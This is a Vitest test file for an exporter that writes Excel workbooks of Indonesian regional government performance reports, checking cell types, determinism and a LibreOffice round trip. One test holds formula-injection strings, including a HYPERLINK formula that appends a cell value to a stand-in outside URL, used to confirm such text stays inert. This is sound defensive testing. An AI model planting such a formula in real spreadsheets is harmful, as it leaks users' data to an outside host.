/**
 * The per-report Excel workbooks (issue #13 item 1), on the real content: read back with a second, independent
 * reader (SheetJS) every cell of every sheet has the exact value and type of the download table; the bytes are
 * the same on every write; text that looks like a formula or a number stays text; and LibreOffice (headless,
 * xlsx → ods) reads the same values.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as XLSX from '@e965/xlsx';
import Decimal from 'decimal.js';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, describe, expect, it } from 'vitest';
import { formatMachine } from '../../../src/lib/angka/format.ts';
import {
  buildTables,
  README_HEADER,
  README_SHEET,
  reportDownloadTables,
  reportWorkbook,
  reportWorkbookPath,
  toXlsx,
  type DownloadTable,
} from '../../../src/lib/ekspor/index.ts';
import { col, filterRows, type Cell, type Column, type Table } from '../../../src/lib/ekspor/tabel.ts';
import { load, REAL } from './bantu.ts';

const real = load(REAL);
const tables = buildTables(real.content, real.scored);
const reports = real.content.reports.map((report) => {
  const downloads = reportDownloadTables(report, (name) =>
    filterRows(tables[name], `laporan/${report.id}/${name}`, (row) => row.laporan_id === report.id),
  );
  return { report, downloads };
});
const books = await Promise.all(
  reports.map(async (r) => ({ ...r, bytes: await reportWorkbook(r.report, r.downloads) })),
);

const work = mkdtempSync(join(tmpdir(), 'kinerja-buku-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** What a cell must read back as: its SheetJS type (`s` text, `n` number) and value, or undefined for no cell. */
function expected(column: Column, cell: Cell): { t: 's' | 'n'; v: string | number } | undefined {
  if (cell === undefined || cell === '') return undefined;
  switch (column.type) {
    case 'string':
      return { t: 's', v: cell as string };
    case 'boolean':
      return { t: 's', v: cell ? 'ya' : 'tidak' };
    case 'integer':
    case 'year':
      return { t: 'n', v: cell as number };
    case 'number': {
      const text = formatMachine(cell as Decimal);
      return new Decimal(Number(text)).eq(cell as Decimal) ? { t: 'n', v: Number(text) } : { t: 's', v: text };
    }
  }
}

/** Every cell of a sheet as `[address, type, value]`, row by row (no cell = not listed). */
function cellsOf(sheet: XLSX.WorkSheet): [string, string, unknown][] {
  const out: [string, string, unknown][] = [];
  const range = XLSX.utils.decode_range(sheet['!ref'] ?? 'A1:A1');
  for (let r = range.s.r; r <= range.e.r; r++) {
    for (let c = range.s.c; c <= range.e.c; c++) {
      const address = XLSX.utils.encode_cell({ r, c });
      const cell = sheet[address] as XLSX.CellObject | undefined;
      if (cell && cell.v !== undefined && cell.v !== '') out.push([address, cell.t, cell.v]);
      if (cell?.f !== undefined) out.push([address, 'formula', cell.f]);
    }
  }
  return out;
}

/** The cells a table's sheet must have: the header row, then each row's non-empty cells with their type. */
function expectedCells(table: Table): [string, string, unknown][] {
  const out: [string, string, unknown][] = [];
  table.columns.forEach((c, i) => out.push([XLSX.utils.encode_cell({ r: 0, c: i }), 's', c.name]));
  table.rows.forEach((row, r) =>
    table.columns.forEach((c, i) => {
      const want = expected(c, row[c.name]);
      if (want) out.push([XLSX.utils.encode_cell({ r: r + 1, c: i }), want.t, want.v]);
    }),
  );
  return out;
}

function checkBook(book: XLSX.WorkBook, downloads: readonly DownloadTable[], label: string): void {
  expect(book.SheetNames[0], label).toBe(README_SHEET);
  expect(book.SheetNames.length, label).toBe(downloads.length + 1);
  downloads.forEach((d, i) => {
    const name = book.SheetNames[i + 1] ?? '';
    expect(cellsOf(book.Sheets[name] as XLSX.WorkSheet), `${label} ${d.base}`).toEqual(expectedCells(d.table));
  });
  // The README lists every sheet and every column of it.
  const readme = XLSX.utils.sheet_to_json<string[]>(book.Sheets[README_SHEET] as XLSX.WorkSheet, { header: 1 });
  expect(readme[0]).toEqual(README_HEADER);
  downloads.forEach((d, i) => {
    const sheet = book.SheetNames[i + 1];
    const described = readme.filter((r) => r[0] === sheet && r[1] !== undefined).map((r) => r[1]);
    expect(described, `${label} README ${sheet}`).toEqual(d.table.columns.map((c) => c.name));
  });
}

describe('per-report Excel workbooks (real content)', () => {
  it('has one workbook per report, at the path the report page links', () => {
    expect(books.length).toBe(real.content.reports.length);
    expect(reportWorkbookPath('dinsos-p3ap2kb-kota-malang/2023-lkjip')).toBe(
      'unduh/laporan/dinsos-p3ap2kb-kota-malang/2023-lkjip/dinsos-p3ap2kb-kota-malang-2023-lkjip.xlsx',
    );
  });

  it('reads back with SheetJS: every cell of every sheet has the exact value and type, no formulas', () => {
    for (const { report, downloads, bytes } of books)
      checkBook(XLSX.read(bytes, { type: 'buffer' }), downloads, report.id);
  });

  it('keeps printed figures as text cells and values as number cells (Lumajang budget)', () => {
    const lumajang = books.find((b) => b.report.id.includes('lumajang'));
    const book = XLSX.read(lumajang?.bytes, { type: 'buffer' });
    const sheet = book.Sheets['tabel-capaian-anggaran'] as XLSX.WorkSheet;
    expect([sheet.B2?.t, sheet.B2?.v, sheet.C2?.t, sheet.C2?.v]).toEqual(['s', '30.316.880.763,00', 'n', 30316880763]);
    expect([sheet.D2?.t, sheet.D2?.v]).toEqual(['s', '1,158,498,355.00']);
  });

  it('freezes the header row and sets column widths on every sheet', async () => {
    for (const { report, bytes } of books) {
      const zip = unzipSync(bytes);
      const sheets = Object.keys(zip).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
      expect(sheets.length, report.id).toBeGreaterThan(1);
      for (const f of sheets) {
        const xml = strFromU8(zip[f] ?? new Uint8Array());
        expect(xml, `${report.id} ${f}`).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
        expect(xml, `${report.id} ${f}`).toMatch(/<col [^>]*width="/);
        expect(xml, `${report.id} ${f}`).not.toMatch(/<f>/);
      }
    }
  });

  it('writes the same bytes every time (fixed document and zip dates)', async () => {
    for (const { report, downloads, bytes } of books) {
      expect(Buffer.from(await reportWorkbook(report, downloads)).equals(Buffer.from(bytes)), report.id).toBe(true);
    }
    const zip = unzipSync(books[0]?.bytes as Uint8Array);
    const core = strFromU8(zip['docProps/core.xml'] ?? new Uint8Array());
    expect(core).toContain('2000-01-01T00:00:00Z');
  });

  it('stores text that looks like a formula or a number as text, never evaluated', async () => {
    const texts = [
      '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
      '+1',
      '-1+2',
      '@SUM(A1:A9)',
      '\t=1+1 tab',
      '\r=1+1 cr',
      'kode _x0041_ tertulis',
      '1.000.000,00',
      '0012',
      '2024',
      '-',
    ];
    const table: Table = {
      name: 'uji',
      title: { id: 'Uji', en: 'Test' },
      description: { id: 'Uji', en: 'Test' },
      columns: [col('teks', 'string', '', ''), col('angka', 'number', '', ''), col('iku', 'boolean', '', '')],
      rows: texts.map((teks, i) => ({ teks, angka: new Decimal(-i).dividedBy(8), iku: i % 2 === 0 })),
    };
    const book = XLSX.read(await toXlsx({ title: 'Uji', notes: [] }, [{ file: 'uji.csv', table }]), { type: 'buffer' });
    expect(cellsOf(book.Sheets.uji as XLSX.WorkSheet)).toEqual(expectedCells(table));
  });

  it('writes a carriage return as the OOXML escape _x000D_ (XML readers would turn CR LF into LF)', async () => {
    const table: Table = {
      name: 'uji',
      title: { id: 'Uji', en: 'Test' },
      description: { id: 'Uji', en: 'Test' },
      columns: [col('teks', 'string', '', '')],
      rows: [{ teks: 'dua\r\nbaris' }],
    };
    const zip = unzipSync(await toXlsx({ title: 'Uji', notes: [] }, [{ file: 'uji.csv', table }]));
    const strings = strFromU8(zip['xl/sharedStrings.xml'] ?? new Uint8Array());
    expect(strings).toContain('dua_x000D_\nbaris');
  });

  it('survives a LibreOffice round trip (xlsx → ods) with exact values', () => {
    const names = books.map((b, i) => {
      const file = join(work, `laporan-${i}.xlsx`);
      writeFileSync(file, b.bytes);
      return file;
    });
    execFileSync(
      'soffice',
      [
        `-env:UserInstallation=file://${join(work, 'profil')}`,
        '--headless',
        '--convert-to',
        'ods',
        '--outdir',
        work,
        ...names,
      ],
      { stdio: 'pipe', timeout: 120_000 },
    );
    books.forEach(({ report, downloads }, i) => {
      const ods = XLSX.read(readFileSync(join(work, `laporan-${i}.ods`)), { type: 'buffer' });
      checkBook(ods, downloads, `${report.id} (LibreOffice)`);
    });
  }, 150_000);
});
